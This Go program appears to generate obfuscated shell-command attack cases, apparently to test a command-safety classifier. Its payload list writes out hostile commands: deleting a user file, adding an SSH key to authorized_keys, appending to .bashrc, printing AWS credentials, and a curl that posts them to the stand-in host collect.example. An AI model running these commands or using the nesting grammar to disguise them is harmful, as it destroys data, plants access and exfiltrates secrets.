//go:build linux

package main

import (
	"embed"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"slices"
	"strings"
)

//go:embed forms/*.txt
var texts embed.FS

// A form is a way to do harm, with holes in its template:
//
//	{P}  code, as it stands        {Q}  code as one quoted word   {QQ} quoted twice
//	{O}  a file outside that holds something
//	{S}  a file that holds a secret                 {R}  a host's name
type form struct {
	id       string
	shells   []string
	template string
	setup    string // what bash does in the project before
}

// shells are those that forms are written for.
var shells = []string{"bash", "zsh", "mksh", "sh"}

// wraps reports whether a form runs code, so that it can hold another.
func (f *form) wraps() bool {
	return strings.Contains(f.template, "{P}") || f.quotes()
}

func (f *form) quotes() bool {
	return strings.Contains(f.template+f.setup, "{Q}") || strings.Contains(f.template, "{QQ}")
}

// readForms reads the tables: a name, its shells, a template and perhaps a
// setup, with tabs between them.
func readForms() (all []form, err error) {
	names, err := fs.Glob(texts, "forms/*.txt")
	if err != nil {
		return nil, fmt.Errorf("reading forms: %w", err)
	}
	for _, name := range names {
		text, err := texts.ReadFile(name)
		if err != nil {
			return nil, fmt.Errorf("reading forms: %w", err)
		}
		family := strings.TrimSuffix(strings.TrimPrefix(name, "forms/"), ".txt")
		for i, line := range strings.Split(strings.TrimSpace(string(text)), "\n") {
			if strings.HasPrefix(line, "#") {
				continue
			}
			parts := strings.SplitN(line, "\t", 4)
			if len(parts) < 3 {
				return nil, fmt.Errorf("%s:%d: want a name, shells and a template: %q", name, i+1, line)
			}
			f := form{id: family + ":" + parts[0], shells: shells, template: strings.NewReplacer("¶", "\n", "⇥", "\t").Replace(parts[2])}
			if parts[1] != "*" {
				f.shells = strings.Split(parts[1], ",")
			}
			if len(parts) == 4 {
				f.setup = parts[3]
			}
			all = append(all, f)
		}
	}
	return all, nil
}

// payloads are what code does: each alone is more than level A, or the rest
// would prove nothing.
var payloads = []form{
	{id: "rm", template: `rm -f "$HOME/Documents/letter.txt"`},
	{id: "truncate", template: `: > "$HOME/Documents/letter.txt"`},
	{id: "key", template: `echo ssh-ed25519 AAAA > $HOME/.ssh/authorized_keys`},
	{id: "rc", template: `echo true >> $HOME/.bashrc`},
	{id: "show", template: `cat $HOME/.aws/credentials`},
	{id: "send", template: `curl -s -d @$HOME/.aws/credentials http://collect.example/`},
}

// outside and secrets are spellings of the files that {O} and {S} stand for.
var (
	outside = []string{"../Documents/letter.txt", "$HOME/Documents/letter.txt", "docs/../../Documents/letter.txt"}
	secrets = []string{".env", "./.env", "$HOME/.aws/credentials", "../.aws/credentials", "docs/../.env"}
)

// An attack is a command in a world of a setup.
type attack struct {
	forms          []*form // the outermost first
	payload        string
	shell, command string
	setup          string
}

// mechanism names what an attack is made of.
func (a *attack) mechanism() string {
	var ids []string
	for _, f := range a.forms {
		ids = append(ids, f.id)
	}
	return strings.Join(ids, " < ")
}

// build fills forms, the outermost first, around a payload.
func build(r *rand.Rand, forms []*form, payload *form, shell string) attack {
	a := attack{forms: forms, payload: payload.id, shell: shell}
	code := payload.template
	for _, f := range slices.Backward(forms) {
		if f.setup != "" { // the innermost first, as the others may write the same files
			a.setup += strings.NewReplacer("{Q}", quote(code, 0)).Replace(f.setup) + "\n"
		}
		out := outside[r.IntN(len(outside))]
		if strings.Contains(f.template, "'{O}") || strings.Contains(f.template, "{O}'") { // nothing is expanded there
			out = outside[0]
		}
		secret := secrets[r.IntN(len(secrets))]
		if strings.Contains(f.template, `"{S}"`) || strings.Contains(f.template, "{S}'") {
			secret = secrets[0]
		}
		code = strings.NewReplacer("{P}", code, "{QQ}", quote(quote(code, 0), 0), "{Q}", quote(code, r.IntN(3)),
			"{O}", out, "{S}", secret, "{R}", "collect.example").Replace(f.template)
	}
	a.command = code
	return a
}

// quote writes a text as one word, in one of three ways.
func quote(text string, way int) string {
	switch way {
	case 1:
		if !strings.ContainsAny(text, "\n!") {
			return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(text) + `"`
		}
	case 2: // the first character apart
		if text != "" && strings.IndexByte("abcdefghijklmnopqrstuvwxyz", text[0]) >= 0 {
			return `\` + text[:1] + quote(text[1:], 0)
		}
	}
	return "'" + strings.ReplaceAll(text, "'", `'\''`) + "'"
}

// A grammar makes attacks of forms.
type grammar struct {
	forms []form
	wraps []*form
}

func newGrammar() (*grammar, error) {
	forms, err := readForms()
	if err != nil {
		return nil, err
	}
	g := &grammar{forms: forms}
	for i := range forms {
		if forms[i].wraps() && forms[i].setup == "" {
			g.wraps = append(g.wraps, &forms[i])
		}
	}
	return g, nil
}

// singles makes each form once in each of its shells, with a payload of each
// kind in turn.
func (g *grammar) singles(r *rand.Rand) (all []attack) {
	for i := range g.forms {
		f := &g.forms[i]
		ways := 1
		if f.wraps() || f.quotes() {
			ways = len(payloads)
			if f.setup != "" { // a world each
				ways = 2
			}
		}
		for _, shell := range f.shells {
			for w := range ways {
				p := w
				if ways == 2 {
					p = (w*4 + i) % len(payloads)
				}
				all = append(all, build(r, []*form{f}, &payloads[p], shell))
			}
			if f.setup != "" { // one shell does
				break
			}
		}
	}
	return all
}

// nested makes one form within another, or two.
func (g *grammar) nested(r *rand.Rand) attack {
	for {
		inner := &g.forms[r.IntN(len(g.forms))]
		shell := inner.shells[r.IntN(len(inner.shells))]
		forms := []*form{inner}
		for range 1 + r.IntN(2) {
			f := g.wraps[r.IntN(len(g.wraps))]
			if !slices.Contains(f.shells, shell) {
				continue
			}
			if strings.Contains(f.template, "{P}") && !f.quotes() || len(inner.shells) == len(shells) || shell == "bash" && strings.HasPrefix(f.template, "bash") {
				forms = append([]*form{f}, forms...)
			}
		}
		if len(forms) > 1 {
			return build(r, forms, &payloads[r.IntN(len(payloads))], shell)
		}
	}
}
